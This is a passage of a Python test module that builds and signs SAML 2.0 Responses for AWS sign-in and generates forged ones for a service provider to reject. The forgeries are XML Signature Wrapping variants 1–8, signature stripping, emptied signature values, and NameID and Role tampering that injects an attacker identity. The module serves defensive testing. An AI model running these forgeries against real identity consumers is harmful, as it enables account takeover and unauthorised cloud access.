"""SAML 2.0 Responses as an identity provider sends them to AWS, signed by independent signers,
and the attacks a service provider must refuse.

What it builds (SAML core, saml-core-2.0-os; the AWS profile in the IAM user guide,
id_roles_providers_create_saml_assertions):
* a Response (Issuer = the IdP's entity id, Destination = the ACS) with one Assertion: Subject
  NameID with a Format, one bearer SubjectConfirmation (Recipient = the ACS, NotOnOrAfter),
  Conditions NotBefore/NotOnOrAfter with an AudienceRestriction (`urn:amazon:webservices`), an
  AuthnStatement and the AWS attributes (Role, RoleSessionName, SessionDuration, PrincipalTag:*,
  TransitiveTagKeys, SourceIdentity);
* the IdP's metadata (EntityDescriptor / IDPSSODescriptor with a signing KeyDescriptor), as
  CreateSAMLProvider takes it.

Signers, each able to sign the Assertion or the Response (RSA-2048, rsa-sha256, sha256, exclusive
c14n + enveloped-signature), none of them sharing code with tessera (or with each other beyond
libxml2):
* `signxml` (pure Python over lxml and cryptography),
* `pysaml2` (its signature template, `pre_signature_part`, signed by its `sigver` backend, which
  runs the xmlsec1 program),
* `xmlsec1` (our own template and `xmlsec1 --sign`).

Keys are generated at run time with `cryptography` (self-signed certificates); no private key is
committed. Attack builders take signed documents and return the bytes an attacker would send.
Nothing here talks to tessera.
"""

from __future__ import annotations

import atexit
import base64
import copy
import dataclasses
import datetime as dt
import hashlib
import secrets
import shutil
import subprocess
import tempfile
import uuid
from pathlib import Path
from typing import Iterable

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.x509.oid import NameOID
from lxml import etree

# --------------------------------------------------------------------------------------------
# Names.

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
MD = "urn:oasis:names:tc:SAML:2.0:metadata"
DS = "http://www.w3.org/2000/09/xmldsig#"
XS = "http://www.w3.org/2001/XMLSchema"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
XSL = "http://www.w3.org/1999/XSL/Transform"
NS = {"samlp": SAMLP, "saml": SAML, "md": MD, "ds": DS}

# The AWS service provider: its ACS (SubjectConfirmationData/@Recipient, Response/@Destination)
# and its entity id (the Audience).
AWS_ACS = "https://signin.aws.amazon.com/saml"
AWS_AUDIENCE = "urn:amazon:webservices"
ATTR = "https://aws.amazon.com/SAML/Attributes/"
ROLE_ATTR = ATTR + "Role"
SESSION_NAME_ATTR = ATTR + "RoleSessionName"
SESSION_DURATION_ATTR = ATTR + "SessionDuration"
TRANSITIVE_ATTR = ATTR + "TransitiveTagKeys"
SOURCE_IDENTITY_ATTR = ATTR + "SourceIdentity"
ATTR_NAME_FORMAT_URI = "urn:oasis:names:tc:SAML:2.0:attrname-format:uri"

NAMEID_PERSISTENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
NAMEID_TRANSIENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:transient"
NAMEID_EMAIL = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
NAMEID_UNSPECIFIED = "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified"
BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
STATUS_SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
STATUS_REQUESTER = "urn:oasis:names:tc:SAML:2.0:status:Requester"
AUTHN_PPT = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"

# XML-DSig algorithm identifiers (xmldsig-core1, xmldsig-more RFC 6931, xml-exc-c14n).
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
EXC_C14N_COMMENTS = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"
ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
XPATH_TRANSFORM = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
ECDSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"
RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"

XMLSEC1 = shutil.which("xmlsec1") or "/usr/bin/xmlsec1"
SIGNERS = ("signxml", "pysaml2", "xmlsec1")
TARGETS = ("assertion", "response")

# The identity every injection attack tries to obtain: an attacker-chosen subject and session
# name for a role the genuine assertion does not grant.
EVIL_NAME_ID = "mallory@evil.example"
EVIL_SESSION_NAME = "mallory"


def q(ns: str, tag: str) -> str:
    return f"{{{ns}}}{tag}"


def new_id() -> str:
    # An NCName (xs:ID): must not start with a digit.
    return "_" + secrets.token_hex(16)


def saml_time(t: dt.datetime) -> str:
    """xs:dateTime in UTC with milliseconds, as IdPs write it."""
    t = t.astimezone(dt.timezone.utc)
    return f"{t:%Y-%m-%dT%H:%M:%S}.{t.microsecond // 1000:03d}Z"


def utcnow() -> dt.datetime:
    return dt.datetime.now(dt.timezone.utc)


# --------------------------------------------------------------------------------------------
# Keys: RSA-2048 with a self-signed certificate, made at run time.

_TEMP_DIRS: list[str] = []


@atexit.register
def _remove_temp_dirs() -> None:
    for d in _TEMP_DIRS:
        shutil.rmtree(d, ignore_errors=True)


def _temp_dir(prefix: str) -> Path:
    d = tempfile.mkdtemp(prefix=prefix)
    _TEMP_DIRS.append(d)
    return Path(d)


@dataclasses.dataclass(frozen=True)
class KeyPair:
    key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey
    cert: x509.Certificate
    dir: Path  # holds key.pem and cert.pem for the xmlsec1 program

    @property
    def key_pem(self) -> bytes:
        return self.key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption()
        )

    @property
    def cert_pem(self) -> bytes:
        return self.cert.public_bytes(serialization.Encoding.PEM)

    @property
    def cert_b64(self) -> str:
        """Base64 DER, as ds:X509Certificate carries it."""
        return base64.b64encode(self.cert.public_bytes(serialization.Encoding.DER)).decode()

    @property
    def key_file(self) -> Path:
        return self.dir / "key.pem"

    @property
    def cert_file(self) -> Path:
        return self.dir / "cert.pem"

    @property
    def sig_alg(self) -> str:
        """The XML-DSig SignatureMethod an IdP uses with this key."""
        return ECDSA_SHA256 if isinstance(self.key, ec.EllipticCurvePrivateKey) else RSA_SHA256

    def __repr__(self) -> str:  # never print key material
        return f"KeyPair({self.cert.subject.rfc4514_string()})"


def new_keypair(common_name: str = "idp.example.test", bits: int = 2048, *, ec_p256: bool = False) -> KeyPair:
    """An RSA key of `bits` (or, with `ec_p256`, an ECDSA P-256 key) and its self-signed certificate."""
    key = ec.generate_private_key(ec.SECP256R1()) if ec_p256 else rsa.generate_private_key(public_exponent=65537,
                                                                                           key_size=bits)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = utcnow()
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=365))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    d = _temp_dir("saml-forge-key-")
    kp = KeyPair(key, cert, d)
    kp.key_file.write_bytes(kp.key_pem)
    kp.key_file.chmod(0o600)
    kp.cert_file.write_bytes(kp.cert_pem)
    return kp


# --------------------------------------------------------------------------------------------
# Metadata (saml-metadata-2.0-os §2.3.2, §2.4.3).


def metadata(entity_id: str, certs: Iterable[KeyPair] = (), use: str | None = "signing",
             sso_url: str = "https://idp.example.test/sso/saml") -> str:
    """An IdP's metadata with one KeyDescriptor per certificate (`use` = "signing",
    "encryption", or None for no `use` attribute). No certificate at all gives metadata that
    cannot verify anything. Long enough for CreateSAMLProvider's 1,000-character minimum."""
    root = etree.Element(q(MD, "EntityDescriptor"), nsmap={"md": MD, "ds": DS})
    root.set("entityID", entity_id)
    idp = etree.SubElement(root, q(MD, "IDPSSODescriptor"))
    idp.set("WantAuthnRequestsSigned", "false")
    idp.set("protocolSupportEnumeration", SAMLP)
    for kp in certs:
        kd = etree.SubElement(idp, q(MD, "KeyDescriptor"))
        if use is not None:
            kd.set("use", use)
        ki = etree.SubElement(kd, q(DS, "KeyInfo"))
        etree.SubElement(etree.SubElement(ki, q(DS, "X509Data")), q(DS, "X509Certificate")).text = kp.cert_b64
    etree.SubElement(idp, q(MD, "SingleLogoutService"),
                     Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect", Location=sso_url + "/logout")
    for fmt in (NAMEID_PERSISTENT, NAMEID_TRANSIENT, NAMEID_EMAIL, NAMEID_UNSPECIFIED):
        etree.SubElement(idp, q(MD, "NameIDFormat")).text = fmt
    for binding in ("HTTP-POST", "HTTP-Redirect"):
        etree.SubElement(idp, q(MD, "SingleSignOnService"),
                         Binding=f"urn:oasis:names:tc:SAML:2.0:bindings:{binding}", Location=sso_url)
    org = etree.SubElement(root, q(MD, "Organization"))
    for tag, text in (("OrganizationName", "Example Identity"), ("OrganizationDisplayName", "Example Identity Provider"),
                      ("OrganizationURL", "https://idp.example.test/")):
        el = etree.SubElement(org, q(MD, tag))
        el.set("{http://www.w3.org/XML/1998/namespace}lang", "en")
        el.text = text
    contact = etree.SubElement(root, q(MD, "ContactPerson"), contactType="technical")
    etree.SubElement(contact, q(MD, "GivenName")).text = "Identity Team"
    etree.SubElement(contact, q(MD, "EmailAddress")).text = "mailto:identity@idp.example.test"
    doc = etree.tostring(root, xml_declaration=True, encoding="UTF-8").decode()
    assert len(doc) >= 1000, len(doc)
    return doc


# --------------------------------------------------------------------------------------------
# Responses.


@dataclasses.dataclass
class Claims:
    """What the IdP asserts. Times default relative to `now`; `None` leaves an element out."""

    issuer: str
    roles: list[str]  # Role attribute values, "role-arn,provider-arn"
    session_name: str | None = "alice"
    name_id: str = "alice@example.com"
    name_id_format: str | None = NAMEID_PERSISTENT
    recipient: str = AWS_ACS
    destination: str | None = AWS_ACS
    audiences: list[str] | None = dataclasses.field(default_factory=lambda: [AWS_AUDIENCE])
    now: dt.datetime = dataclasses.field(default_factory=utcnow)
    not_before: dt.datetime | None = None  # default now - 2 min
    not_on_or_after: dt.datetime | None = None  # default now + 5 min (Conditions)
    subject_not_on_or_after: dt.datetime | None = None  # default = not_on_or_after
    session_not_on_or_after: dt.datetime | None = None  # AuthnStatement/@SessionNotOnOrAfter
    session_duration: int | None = None
    principal_tags: dict[str, str] = dataclasses.field(default_factory=dict)
    transitive_tag_keys: list[str] = dataclasses.field(default_factory=list)
    source_identity: str | None = None
    extra_attributes: dict[str, list[str]] = dataclasses.field(default_factory=dict)
    response_id: str = dataclasses.field(default_factory=new_id)
    assertion_id: str = dataclasses.field(default_factory=new_id)
    status: str = STATUS_SUCCESS

    def replace(self, **kw) -> "Claims":
        """A copy with changes and fresh Response/Assertion IDs (unless given)."""
        kw.setdefault("response_id", new_id())
        kw.setdefault("assertion_id", new_id())
        return dataclasses.replace(self, **kw)


def _attribute(parent, name: str, values: Iterable[str]) -> None:
    attr = etree.SubElement(parent, q(SAML, "Attribute"), Name=name, NameFormat=ATTR_NAME_FORMAT_URI)
    for v in values:
        av = etree.SubElement(attr, q(SAML, "AttributeValue"))
        av.set(q(XSI, "type"), "xs:string")
        av.text = v


def build_assertion(c: Claims) -> etree._Element:
    now = c.now
    not_before = c.not_before or now - dt.timedelta(minutes=2)
    not_after = c.not_on_or_after or now + dt.timedelta(minutes=5)
    subject_after = c.subject_not_on_or_after or not_after
    # The Assertion declares every prefix it uses (xs: appears only inside xsi:type values), so
    # it can be signed on its own and then placed in the Response.
    a = etree.Element(q(SAML, "Assertion"), nsmap={"saml": SAML, "xs": XS, "xsi": XSI})
    a.set("ID", c.assertion_id)
    a.set("IssueInstant", saml_time(now))
    a.set("Version", "2.0")
    etree.SubElement(a, q(SAML, "Issuer")).text = c.issuer

    subject = etree.SubElement(a, q(SAML, "Subject"))
    name_id = etree.SubElement(subject, q(SAML, "NameID"))
    if c.name_id_format is not None:
        name_id.set("Format", c.name_id_format)
    name_id.text = c.name_id
    sc = etree.SubElement(subject, q(SAML, "SubjectConfirmation"), Method=BEARER)
    etree.SubElement(sc, q(SAML, "SubjectConfirmationData"), NotOnOrAfter=saml_time(subject_after), Recipient=c.recipient)

    cond = etree.SubElement(a, q(SAML, "Conditions"), NotBefore=saml_time(not_before), NotOnOrAfter=saml_time(not_after))
    if c.audiences is not None:
        ar = etree.SubElement(cond, q(SAML, "AudienceRestriction"))
        for aud in c.audiences:
            etree.SubElement(ar, q(SAML, "Audience")).text = aud

    authn = etree.SubElement(a, q(SAML, "AuthnStatement"), AuthnInstant=saml_time(now), SessionIndex=new_id())
    if c.session_not_on_or_after is not None:
        authn.set("SessionNotOnOrAfter", saml_time(c.session_not_on_or_after))
    ctx = etree.SubElement(authn, q(SAML, "AuthnContext"))
    etree.SubElement(ctx, q(SAML, "AuthnContextClassRef")).text = AUTHN_PPT

    stmt = etree.SubElement(a, q(SAML, "AttributeStatement"))
    _attribute(stmt, ROLE_ATTR, c.roles)
    if c.session_name is not None:
        _attribute(stmt, SESSION_NAME_ATTR, [c.session_name])
    if c.session_duration is not None:
        _attribute(stmt, SESSION_DURATION_ATTR, [str(c.session_duration)])
    for k, v in c.principal_tags.items():
        _attribute(stmt, f"{ATTR}PrincipalTag:{k}", [v])
    if c.transitive_tag_keys:
        _attribute(stmt, TRANSITIVE_ATTR, c.transitive_tag_keys)
    if c.source_identity is not None:
        _attribute(stmt, SOURCE_IDENTITY_ATTR, [c.source_identity])
    for name, values in c.extra_attributes.items():
        _attribute(stmt, name, values)
    return a


def build_response(c: Claims, assertions: Iterable[etree._Element] | None = None) -> etree._Element:
    r = etree.Element(q(SAMLP, "Response"), nsmap={"samlp": SAMLP, "saml": SAML})
    r.set("ID", c.response_id)
    r.set("Version", "2.0")
    r.set("IssueInstant", saml_time(c.now))
    if c.destination is not None:
        r.set("Destination", c.destination)
    etree.SubElement(r, q(SAML, "Issuer")).text = c.issuer
    status = etree.SubElement(r, q(SAMLP, "Status"))
    etree.SubElement(status, q(SAMLP, "StatusCode"), Value=c.status)
    for a in assertions if assertions is not None else [build_assertion(c)]:
        r.append(a)
    return r


def to_bytes(el: etree._Element) -> bytes:
    return etree.tostring(el, xml_declaration=True, encoding="UTF-8")


def parse(xml: bytes | str) -> etree._Element:
    """Parse a document this module made. Never resolves entities, loads a DTD or uses the
    network (attack documents carry DOCTYPEs)."""
    if isinstance(xml, str):
        xml = xml.encode()
    parser = etree.XMLParser(resolve_entities=False, load_dtd=False, no_network=True, huge_tree=False,
                             remove_blank_text=False)
    return etree.fromstring(xml, parser)


def expat_well_formed(xml: bytes) -> None:
    """Raises unless `xml` is well-formed, without expanding any entity: with a DefaultHandler
    set, expat passes internal entity references through instead of expanding them, and it never
    reads external ones (no ExternalEntityRefHandler). For documents with a DTD, which libxml2
    refuses to even check once their entities amplify (billion laughs)."""
    from xml.parsers import expat

    p = expat.ParserCreate(namespace_separator=" ")
    p.SetParamEntityParsing(expat.XML_PARAM_ENTITY_PARSING_NEVER)
    p.DefaultHandler = lambda _data: None
    p.Parse(xml, True)


def unsigned_response(c: Claims) -> bytes:
    return to_bytes(build_response(c))


def b64(xml: bytes | str) -> str:
    """The SAMLAssertion parameter: base64 of the whole Response."""
    if isinstance(xml, str):
        xml = xml.encode()
    return base64.b64encode(xml).decode()


# --------------------------------------------------------------------------------------------
# Signing.


def _target(root: etree._Element, target: str, node_id: str | None = None) -> etree._Element:
    if node_id is not None:
        found = [e for e in root.iter() if isinstance(e.tag, str) and e.get("ID") == node_id]
        assert found, f"no element with ID {node_id}"
        return found[0]
    if target == "response":
        assert root.tag == q(SAMLP, "Response"), root.tag
        return root
    a = root.find(q(SAML, "Assertion"))
    assert a is not None, "no Assertion to sign"
    return a


def _insert_after_issuer(el: etree._Element, sig: etree._Element) -> None:
    issuer = el.find(q(SAML, "Issuer"))
    assert issuer is not None, f"{el.tag} has no Issuer"
    issuer.addnext(sig)


def signature_template(ref_uri: str, *, sig_alg: str = RSA_SHA256, digest_alg: str = SHA256,
                       transforms: Iterable[str | etree._Element] = (ENVELOPED, EXC_C14N),
                       c14n: str = EXC_C14N, cert: KeyPair | None = None) -> etree._Element:
    """An XML-DSig template (empty DigestValue / SignatureValue) for xmlsec1 to fill in.
    `transforms` items are algorithm URIs or ready ds:Transform elements."""
    sig = etree.Element(q(DS, "Signature"), nsmap={"ds": DS})
    si = etree.SubElement(sig, q(DS, "SignedInfo"))
    etree.SubElement(si, q(DS, "CanonicalizationMethod"), Algorithm=c14n)
    etree.SubElement(si, q(DS, "SignatureMethod"), Algorithm=sig_alg)
    ref = etree.SubElement(si, q(DS, "Reference"), URI=ref_uri)
    tr = etree.SubElement(ref, q(DS, "Transforms"))
    for t in transforms:
        if isinstance(t, str):
            etree.SubElement(tr, q(DS, "Transform"), Algorithm=t)
        else:
            tr.append(t)
    etree.SubElement(ref, q(DS, "DigestMethod"), Algorithm=digest_alg)
    etree.SubElement(ref, q(DS, "DigestValue"))
    etree.SubElement(sig, q(DS, "SignatureValue"))
    if cert is not None:
        ki = etree.SubElement(sig, q(DS, "KeyInfo"))
        etree.SubElement(etree.SubElement(ki, q(DS, "X509Data")), q(DS, "X509Certificate")).text = cert.cert_b64
    return sig


def _run_xmlsec1(args: list[str], xml: bytes) -> bytes:
    d = _temp_dir("saml-forge-run-")
    try:
        src, out = d / "in.xml", d / "out.xml"
        src.write_bytes(xml)
        p = subprocess.run([XMLSEC1, *args, "--output", str(out), str(src)], capture_output=True, timeout=60,
                           stdin=subprocess.DEVNULL)
        if p.returncode != 0:
            raise RuntimeError(f"xmlsec1 {' '.join(args[:1])} failed: {p.stderr.decode(errors='replace')[-2000:]}")
        return out.read_bytes()
    finally:
        shutil.rmtree(d, ignore_errors=True)


ID_ATTRS = ["--id-attr:ID", f"{SAMLP}:Response", "--id-attr:ID", f"{SAML}:Assertion"]


def xmlsec1_sign(xml: bytes, key: KeyPair, node_id: str) -> bytes:
    """`xmlsec1 --sign` of the first signature template under the element with ID `node_id`."""
    return _run_xmlsec1(["--sign", "--privkey-pem", f"{key.key_file},{key.cert_file}", *ID_ATTRS, "--node-id", node_id],
                        xml)


def _template_doc(xml: bytes, target: str, node_id: str | None, sig_alg: str, digest_alg: str,
                  transforms) -> tuple[bytes, str]:
    """The document with a signature template in the target element, and the target's ID."""
    root = parse(xml)
    el = _target(root, target, node_id)
    ident = el.get("ID")
    tmpl = signature_template(f"#{ident}", sig_alg=sig_alg, digest_alg=digest_alg, transforms=transforms)
    # An empty X509Data: xmlsec1 writes the certificate given with the key into it.
    etree.SubElement(etree.SubElement(tmpl, q(DS, "KeyInfo")), q(DS, "X509Data"))
    _insert_after_issuer(el, tmpl)
    return to_bytes(root), ident


def _sign_with_xmlsec1(xml: bytes, key: KeyPair, target: str, node_id: str | None, sig_alg: str, digest_alg: str,
                       transforms) -> bytes:
    doc, ident = _template_doc(xml, target, node_id, sig_alg, digest_alg, transforms)
    return xmlsec1_sign(doc, key, ident)


def _sign_with_pysaml2(xml: bytes, key: KeyPair, target: str, node_id: str | None) -> bytes:
    from saml2 import xmldsig
    from saml2.sigver import CryptoBackendXmlSec1, pre_signature_part

    root = parse(xml)
    el = _target(root, target, node_id)
    ident = el.get("ID")
    tmpl = pre_signature_part(ident, public_key=key.cert_b64, digest_alg=xmldsig.DIGEST_SHA256,
                              sign_alg=xmldsig.SIG_RSA_SHA256)
    _insert_after_issuer(el, etree.fromstring(str(tmpl).encode()))
    node_name = f"{SAMLP}:Response" if el.tag == q(SAMLP, "Response") else f"{SAML}:Assertion"
    backend = CryptoBackendXmlSec1(XMLSEC1)
    signed = backend.sign_statement(to_bytes(root).decode(), node_name, str(key.key_file), ident)
    return signed.encode() if isinstance(signed, str) else signed


def _sign_with_signxml(xml: bytes, key: KeyPair, target: str, node_id: str | None) -> bytes:
    from signxml import XMLSigner, methods
    from signxml.algorithms import CanonicalizationMethod, DigestAlgorithm, SignatureMethod

    root = parse(xml)
    el = _target(root, target, node_id)
    ident = el.get("ID")
    signer = XMLSigner(
        method=methods.enveloped,
        signature_algorithm=SignatureMethod(key.sig_alg),
        digest_algorithm=DigestAlgorithm.SHA256,
        c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    )
    # signxml puts the signature where its placeholder is (SAML's schema wants it right after
    # the Issuer). An Assertion is signed as a document of its own and then put back: exclusive
    # c14n makes its digest independent of the enclosing Response.
    standalone = copy.deepcopy(el)
    placeholder = etree.Element(q(DS, "Signature"), Id="placeholder", nsmap={"ds": DS})
    _insert_after_issuer(standalone, placeholder)
    signed = signer.sign(standalone, key=key.key_pem, cert=key.cert_pem.decode(), reference_uri=ident,
                         id_attribute="ID")
    # Round-trip through bytes so the placed element carries exactly what was signed.
    signed = parse(etree.tostring(signed))
    if el is root:
        return to_bytes(signed)
    el.getparent().replace(el, signed)
    return to_bytes(root)


def sign(xml: bytes, key: KeyPair, signer: str = "xmlsec1", target: str = "assertion", *,
         node_id: str | None = None) -> bytes:
    """Sign the Assertion or the Response (or the element with ID `node_id`) of `xml`."""
    if signer == "signxml":
        return _sign_with_signxml(xml, key, target, node_id)
    if signer == "pysaml2":
        if key.sig_alg != RSA_SHA256:
            raise ValueError("the pysaml2 signer here makes RSA-SHA256 signatures only")
        return _sign_with_pysaml2(xml, key, target, node_id)
    if signer == "xmlsec1":
        return _sign_with_xmlsec1(xml, key, target, node_id, key.sig_alg, SHA256, (ENVELOPED, EXC_C14N))
    raise ValueError(f"unknown signer {signer}")


def signed_response(c: Claims, key: KeyPair, signer: str = "xmlsec1", target: str = "assertion") -> bytes:
    """`target` "both": the Assertion signed, then the Response (whose digest covers the
    Assertion's signature), as IdPs set to "sign response and assertion" do."""
    if target == "both":
        return sign(sign(unsigned_response(c), key, signer, "assertion"), key, signer, "response")
    return sign(unsigned_response(c), key, signer, target)


def python_sign(xml: bytes, key: KeyPair, target: str = "assertion", *, node_id: str | None = None,
                ref_uri: str | None = None, content: bytes | None = None,
                transforms: Iterable[str | etree._Element] | None = None, sig_alg: str = RSA_SHA256) -> bytes:
    """A signature computed here from lxml's canonicalisation and `cryptography`, for documents
    no XML-DSig library will sign (duplicate IDs, external references).
    Without `ref_uri`: the usual enveloped-signature + exclusive c14n Reference to `#ID` of the
    target. With `ref_uri`: a single Reference to that URI whose digest is SHA-256 of `content`
    (what the URI yields), so a verifier that fetched it would find the digest correct."""
    root = parse(xml)
    el = _target(root, target, node_id)
    if ref_uri is None:
        ref_uri = f"#{el.get('ID')}"
        if transforms is None:
            transforms = (ENVELOPED, EXC_C14N)
        # enveloped-signature then exclusive c14n: the element as it is before the signature goes
        # in (exclusive c14n renders the same namespaces in and out of context).
        content = etree.tostring(copy.deepcopy(el), method="c14n", exclusive=True, with_comments=False)
    assert content is not None
    tmpl = signature_template(ref_uri, sig_alg=sig_alg, transforms=transforms or (), cert=key)
    tmpl.find(f".//{q(DS, 'DigestValue')}").text = base64.b64encode(hashlib.sha256(content).digest()).decode()
    _insert_after_issuer(el, tmpl)
    si = tmpl.find(q(DS, "SignedInfo"))
    c14n = etree.tostring(si, method="c14n", exclusive=True, with_comments=False)
    h = hashes.SHA256() if sig_alg == RSA_SHA256 else hashes.SHA1()
    tmpl.find(q(DS, "SignatureValue")).text = base64.b64encode(key.key.sign(c14n, padding.PKCS1v15(), h)).decode()
    return to_bytes(root)


# --------------------------------------------------------------------------------------------
# Independent verification (the forge's self-check; tessera is never involved).


def signatures(root: etree._Element) -> list[etree._Element]:
    return root.findall(f".//{q(DS, 'Signature')}")


def signed_element_ids(xml: bytes) -> list[str]:
    """IDs named by `#ID` Reference URIs, in document order."""
    root = parse(xml)
    return [r.get("URI")[1:] for r in root.iter(q(DS, "Reference")) if (r.get("URI") or "").startswith("#")]


def xmlsec1_verify(xml: bytes, cert: KeyPair, node_id: str, *, extra: Iterable[str] = ()) -> tuple[bool, str]:
    """`xmlsec1 --verify` of the signature under the element with ID `node_id`, trusting only
    `cert` (key data from the document's KeyInfo is not trusted: only the given key is)."""
    d = _temp_dir("saml-forge-verify-")
    try:
        src = d / "in.xml"
        src.write_bytes(xml)
        args = [XMLSEC1, "--verify", "--pubkey-cert-pem", str(cert.cert_file), "--enabled-key-data", "key-name,rsa",
                *ID_ATTRS, "--node-id", node_id, *extra, str(src)]
        p = subprocess.run(args, capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
        return p.returncode == 0, p.stderr.decode(errors="replace")
    finally:
        shutil.rmtree(d, ignore_errors=True)


def signxml_verify(xml: bytes, cert: KeyPair, *, location: str = ".//", allow_sha1: bool = False):
    """signxml's verifier with the IdP certificate as the only trusted key. Returns the signed
    element (as signxml resolved it); raises on any failure."""
    from signxml import SignatureConfiguration, XMLVerifier
    from signxml.algorithms import DigestAlgorithm, SignatureMethod

    cfg = SignatureConfiguration(location=location)
    if allow_sha1:
        cfg = SignatureConfiguration(location=location, signature_methods=frozenset(SignatureMethod),
                                     digest_algorithms=frozenset(DigestAlgorithm))
    res = XMLVerifier().verify(xml, x509_cert=cert.cert_pem.decode(), id_attribute="ID", expect_config=cfg)
    return res.signed_xml


# --------------------------------------------------------------------------------------------
# Attacks. Each takes what a genuine IdP signed and returns the attacker's document.


def _sig_child(el: etree._Element) -> etree._Element | None:
    return el.find(q(DS, "Signature"))


def _assertion(root: etree._Element) -> etree._Element:
    a = root.find(q(SAML, "Assertion"))
    assert a is not None
    return a


def _strip_sig(el: etree._Element) -> etree._Element:
    s = _sig_child(el)
    if s is not None:
        el.remove(s)
    return el


def inject_identity(assertion: etree._Element, role_pair: str, name_id: str = EVIL_NAME_ID,
                    session_name: str = EVIL_SESSION_NAME) -> None:
    """Rewrite an assertion's subject, Role and RoleSessionName in place (its signature, if
    any, is left as it was)."""
    # Direct paths only: never the copy of the original that some variants nest inside.
    nid = assertion.find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")
    if nid is not None:
        for c in list(nid):
            nid.remove(c)
        nid.text = name_id
    for attr in assertion.findall(f"{q(SAML, 'AttributeStatement')}/{q(SAML, 'Attribute')}"):
        values = attr.findall(q(SAML, "AttributeValue"))
        if attr.get("Name") == ROLE_ATTR:
            values[0].text = role_pair
            for v in values[1:]:
                attr.remove(v)
        elif attr.get("Name") == SESSION_NAME_ATTR:
            values[0].text = session_name


def xsw(variant: int, signed: bytes, evil_role_pair: str) -> bytes:
    """XML Signature Wrapping, variants 1–8 of Somorovsky et al., "On Breaking SAML: Be Whoever
    You Want to Be" (USENIX Security 2012), in the element placements SAML Raider uses. The
    genuine signed element is kept (so the signature still verifies over it) and an element with
    the injected identity is placed where a careless consumer would read it.
    1–2 need a Response signature; 3–8 an Assertion signature."""
    root = parse(signed)
    if variant in (1, 2):
        sig = _sig_child(root)
        assert sig is not None, "XSW1/2 need a signed Response"
        original = _strip_sig(copy.deepcopy(root))  # keeps the signed ID
        if variant == 1:
            sig.append(original)  # inside the Signature
        else:
            sig.addprevious(original)  # before the Signature, a sibling of the evil content
        root.set("ID", new_id())
        inject_identity(_assertion(root), evil_role_pair)
        return to_bytes(root)

    assertion = _assertion(root)
    assert _sig_child(assertion) is not None, "XSW3-8 need a signed Assertion"
    original_unsigned = _strip_sig(copy.deepcopy(assertion))
    if variant == 3:
        # Evil unsigned assertion before the signed one.
        evil = copy.deepcopy(original_unsigned)
        evil.set("ID", new_id())
        inject_identity(evil, evil_role_pair)
        assertion.addprevious(evil)
    elif variant == 4:
        # Evil assertion wraps the signed one.
        evil = copy.deepcopy(original_unsigned)
        evil.set("ID", new_id())
        inject_identity(evil, evil_role_pair)
        root.replace(assertion, evil)
        evil.append(assertion)
    elif variant == 5:
        # The signed assertion is rewritten in place (new ID, keeps its Signature); an unsigned
        # copy of the original, with the signed ID, goes to the end of the Response.
        assertion.set("ID", new_id())
        inject_identity(assertion, evil_role_pair)
        root.append(original_unsigned)
    elif variant == 6:
        # As 5, with the copy of the original inside the evil assertion's Signature.
        assertion.set("ID", new_id())
        inject_identity(assertion, evil_role_pair)
        _sig_child(assertion).append(original_unsigned)
    elif variant == 7:
        # An evil copy (same ID) in samlp:Extensions before the signed assertion.
        ext = etree.Element(q(SAMLP, "Extensions"))
        evil = copy.deepcopy(original_unsigned)
        inject_identity(evil, evil_role_pair)
        ext.append(evil)
        assertion.addprevious(ext)
    elif variant == 8:
        # The signed assertion rewritten in place (same ID); the original copy hides in a
        # ds:Object inside its Signature, where the Reference may resolve to it.
        inject_identity(assertion, evil_role_pair)
        obj = etree.SubElement(_sig_child(assertion), q(DS, "Object"))
        obj.append(original_unsigned)
    else:
        raise ValueError(f"XSW{variant}")
    return to_bytes(root)


def strip_signatures(signed: bytes) -> bytes:
    root = parse(signed)
    for s in signatures(root):
        s.getparent().remove(s)
    return to_bytes(root)


def empty_signature_value(signed: bytes) -> bytes:
    root = parse(signed)
    for v in root.iter(q(DS, "SignatureValue")):
        v.text = ""
    return to_bytes(root)


def tamper_name_id(signed: bytes, name_id: str = EVIL_NAME_ID) -> bytes:
    root = parse(signed)
    root.find(f".//{q(SAML, 'NameID')}").text = name_id
    return to_bytes(root)


def tamper_role(signed: bytes, role_pair: str) -> bytes:
    root = parse(signed)
    for attr in root.iter(q(SAML, "Attribute")):
        if attr.get("Name") == ROLE_ATTR:
            attr.find(q(SAML, "AttributeValue")).text = role_pair
    return to_bytes(root)


def comment_in_name_id(signed: bytes, split_at: int) -> bytes:
